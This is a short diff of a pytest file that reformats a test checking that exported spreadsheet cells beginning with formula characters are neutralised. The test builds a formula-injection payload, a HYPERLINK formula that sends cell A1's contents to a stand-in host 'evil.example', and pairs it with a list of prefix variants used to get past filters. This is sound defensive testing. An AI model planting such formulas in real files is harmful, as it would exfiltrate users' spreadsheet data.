@@ -130,7 +130,9 @@ def test_exports_hold_what_the_view_holds(console: Console, key: NewKey, admin: 
     assert any(json.loads(line).get("extra_field") == 7 for line in lines)
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", " =", "  @", "＝", "\n=", "\u00a0="])
+@pytest.mark.parametrize(
+    "start", ["=", "+", "-", "@", "\t=", "\r=", " =", "  @", "＝", "\n=", "\u00a0="]
+)
 def test_no_cell_is_a_formula(console: Console, key: NewKey, admin: Browser, start: str) -> None:
     formula = start + 'HYPERLINK("http://evil.example?"&A1)'
     assert harmless(formula).startswith("'")
